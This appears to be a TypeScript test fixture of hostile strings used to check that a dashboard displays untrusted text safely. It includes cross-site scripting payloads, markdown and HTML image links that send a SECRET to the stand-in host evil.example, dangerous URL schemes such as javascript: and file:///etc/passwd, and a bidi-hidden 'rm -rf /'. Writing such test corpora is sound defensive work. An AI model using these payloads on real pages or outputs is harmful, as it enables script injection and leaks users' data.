/** Texts with which a model, a tool, a file or a person may attack a reader of the dashboard. */

const HOST = 'evil.example';
const IMAGE = `https://img.${HOST}/p.png?SECRET`;

/** HTML and script: none of it may run, and all of it must be readable. */
export const SCRIPTS: readonly string[] = [
  '<img src=x onerror="window.hacked=1">',
  '<script>window.hacked=1</script>',
  '<svg onload="window.hacked=1"><animate onbegin="window.hacked=1" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<details open ontoggle="window.hacked=1"><summary>x</summary></details>',
  '<form id=x tabindex=1 onfocus="window.hacked=1" autofocus><input name=attributes></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=window.hacked=1>">',
  '<template><script>window.hacked=1</script></template>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.hacked=1>">',
  '"><img src=x onerror=window.hacked=1>',
  "'-(window.hacked=1)-'",
  '{{constructor.constructor("window.hacked=1")()}}',
  '<a href="javascript:window.hacked=1">x</a>',
  '<a id=cookie><a id=cookie name=x>clobbered</a>',
  '&lt;img src=x onerror=window.hacked=1&gt;',
  '\u003cimg src=x onerror=window.hacked=1\u003e',
];

/** Texts that ask the browser to fetch or to look up a name. */
export const FETCHES: readonly string[] = [
  `![inline](${IMAGE})`,
  `![reference][r]\n\n[r]: ${IMAGE} "title"`,
  `[![nested](${IMAGE})](https://link.${HOST})`,
  `<https://auto.${HOST}/?SECRET>`,
  `https://bare.${HOST}/?SECRET and www.bare.${HOST}`,
  `[a link with data](https://secret-data.link.${HOST}/)`,
  `![relative](//relative.${HOST}/p.png)`,
  `note[^1]\n\n[^1]: ![footnote](${IMAGE})`,
  `| a |\n| - |\n| ![cell](${IMAGE}) |`,
  `<img srcset="https://srcset.${HOST}/a.png 1x">`,
  `<picture><source srcset="https://source.${HOST}/a.png"><img></picture>`,
  `<div style="background:url(https://css.${HOST}/a.png)">x</div>`,
  `<style>@import url(https://import.${HOST}/a.css);</style>`,
  `<link rel="dns-prefetch" href="//dns.${HOST}"><link rel=preconnect href="https://connect.${HOST}">`,
  `<link rel=stylesheet href="https://sheet.${HOST}/a.css">`,
  `<meta http-equiv=refresh content="0;url=https://refresh.${HOST}/">`,
  `<base href="https://base.${HOST}/">`,
  `<object data="https://object.${HOST}/"></object><embed src="https://embed.${HOST}/">`,
  `<video poster="https://poster.${HOST}/a.png" src="https://video.${HOST}/a.mp4"></video>`,
  `<audio src="https://audio.${HOST}/a.mp3" autoplay></audio>`,
  `<svg><image href="https://svg.${HOST}/a.png"/><use href="https://use.${HOST}/a.svg#x"/></svg>`,
  `<math><maction actiontype="statusline" xlink:href="https://math.${HOST}/">x</maction></math>`,
  `<input type=image src="https://input.${HOST}/a.png">`,
];

/** Diagrams and documents stay source text. */
export const DIAGRAMS: readonly string[] = [
  '```mermaid\ngraph TD; A["<img src=x onerror=window.hacked=1>"] --> B\nclick A "javascript:window.hacked=1"\n```',
  '```svg\n<svg onload="window.hacked=1"><image href="https://svg.evil.example/a.png"/></svg>\n```',
  '```html\n<script>window.hacked=1</script>\n```',
  '```plantuml\n!include https://plant.evil.example/a.puml\n```',
  '```math\n\\href{javascript:window.hacked=1}{x} \\includegraphics{https://tex.evil.example/a.png}\n```',
];

/** Addresses with another scheme than http, https and mailto. */
export const SCHEMES: readonly string[] = [
  ...['javascript:window.hacked=1', 'JaVaScRiPt:window.hacked=1', 'jav&#x09;ascript:window.hacked=1'],
  ...[
    '&#106;avascript:window.hacked=1',
    '&#x01;javascript:window.hacked=1',
    'javascript&colon;window.hacked=1',
  ],
  ...['data:text/html,<script>window.hacked=1</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd'],
  ...['smb://evil.example/share', 'ms-msdt:/id', 'calculator:', 'blob:https://evil.example/1'],
  ...[
    'view-source:https://evil.example',
    'filesystem:https://evil.example/temporary',
    'intent://evil.example#Intent;end',
  ],
  ...[
    'ssh://evil.example',
    'vscode://evil.example/run',
    'search-ms:query=x',
    'tel:+1',
    '//evil.example/protocol',
  ],
];

/** Text in which a hidden character changes what a reader sees. */
export const HIDDEN = 'transfer \u202E001$\u202C to \u200Bbob\u2066 \u001B[2K rm -rf /';
